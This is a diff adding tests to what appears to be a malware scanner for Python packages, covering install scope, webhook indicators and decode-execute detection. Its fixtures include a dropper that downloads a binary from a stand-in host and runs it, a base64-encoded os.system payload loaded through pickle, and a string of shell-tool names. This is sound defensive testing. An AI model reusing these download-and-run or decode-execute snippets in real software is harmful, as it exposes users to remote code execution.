@@ -469,6 +469,93 @@ def test_sdist_dev_scripts_weigh_less_but_package_scripts_do_not() -> None:
     assert is_peripheral("demo-1.0/tests/test_x.py")
     assert not is_peripheral("mypkg/scripts/cli.py")  # a wheel's package code
     assert not is_peripheral("demo-1.0/demo/__init__.py")
+    # folders no import can reach, and nested folders named for tests or docs
+    assert is_peripheral("demo-1.0/.circleci/fetch_logs.py")
+    assert is_peripheral("demo-1.0/vendored/manual tests/4 binaries/build.py")
+    assert is_peripheral("mypkg/test_data/gen.py")
+    # ... but a project's own top-level package keeps its weight, whatever its name
+    assert not is_peripheral("doc_builder/__init__.py")
+    assert not is_peripheral("doc-builder-1.0/doc_builder/__init__.py")
+
+
+DROPPER = """
+    import urllib.request
+    data = urllib.request.urlopen("https://example.invalid/tool").read()
+    open("tool.bin", "wb").write(data)
+    import subprocess
+    subprocess.run(["./tool.bin"])
+"""
+
+
+def test_sdist_tooling_outside_the_install_weighs_less() -> None:
+    setup = "from setuptools import setup, find_packages\n"
+    setup += "setup(name='demo', packages=find_packages())\n"
+    # utils/ holds no package and setup.py does not name it: release tooling, never installed
+    tooling = analyze(
+        artifact({"setup.py": setup, "utils/fetch.py": DROPPER, "demo/__init__.py": ""})
+    )
+    assert tooling.verdict not in ("malicious", "suspicious")
+    assert "demo-1.0/utils/fetch.py" in tooling.tooling
+    # the same code in the package, or in a folder setup.py names, is judged in full
+    shipped = analyze(artifact({"setup.py": setup, "demo/__init__.py": DROPPER}))
+    assert shipped.verdict == "malicious"
+    named = setup.replace("find_packages()", "['demo'], py_modules=['utils.fetch']")
+    mapped = analyze(artifact({"setup.py": named, "utils/fetch.py": DROPPER}))
+    assert mapped.verdict == "malicious"
+
+
+def test_flit_and_hatch_install_only_their_package() -> None:
+    flit = """
+        [build-system]
+        requires = ["flit_core"]
+        build-backend = "flit_core.buildapi"
+        [project]
+        name = "demo"
+        [tool.ruff]
+        extend-exclude = ["utils"]
+    """
+    files = {"pyproject.toml": flit, "demo/__init__.py": "", "utils/__init__.py": ""}
+    files["utils/fetch.py"] = DROPPER
+    assert analyze(artifact(files)).verdict not in ("malicious", "suspicious")
+    hatch = flit.replace("flit_core.buildapi", "hatchling.build")
+    hatch += '[tool.hatch.build.targets.wheel]\npackages = ["utils"]\n'
+    files["pyproject.toml"] = hatch
+    assert analyze(artifact(files)).verdict == "malicious"  # hatch is told to install utils/
+    files["pyproject.toml"] = "[project\nname = broken"  # unreadable: nothing is excluded
+    assert analyze(artifact(files)).verdict == "malicious"
+
+
+def test_placeholder_webhooks_and_lookalike_hosts_are_not_baked_in_channels() -> None:
+    doc = "e.g. https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"
+    found = analyze(artifact({"demo/__init__.py": f"HELP = {doc!r}\n"})).findings
+    assert [f.severity for f in found if f.rule == "indicator.messenger-webhook"] == ["medium"]
+    lookalike = "https://nothooks.slack.com/services/T1/B1/abc"
+    assert "indicator.messenger-webhook" not in rules_of(
+        {"demo/__init__.py": f"U = {lookalike!r}\n"}
+    )
+    real = "https://discord.com/api/webhooks/123456789012345678/aB3dE6gH9jK2mN5pQ8sT1vW4yZ7"
+    found = analyze(artifact({"demo/__init__.py": f"U = {real!r}\n"})).findings
+    assert [f.severity for f in found if f.rule == "indicator.messenger-webhook"] == ["high"]
+
+
+def test_decoding_an_empty_placeholder_hides_no_code() -> None:
+    template = """
+        import base64, pickle, types
+        _CODE: str = ""
+        def load():
+            code = pickle.loads(base64.b64decode(_CODE))
+            return types.FunctionType(code, {})
+    """
+    assert "intent.decode-execute" not in rules_of({"demo/loader.py": template})
+    hidden = template.replace('""', repr("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=" * 3))
+    assert "intent.decode-execute" in rules_of({"demo/loader.py": hidden})
+
+
+def test_long_minified_lines_do_not_stall_the_shell_patterns() -> None:
+    # a megabyte of one line with many pattern starts: bounded gaps keep this linear
+    line = ("curl wget powershell certutil " + "x" * 50) * 12_000
+    result = analyze(artifact({"demo/static/app.js": line}))
+    assert result.verdict in ("clean", "risky")
 
 
 def test_commands_received_from_a_socket_are_remote_control() -> None:
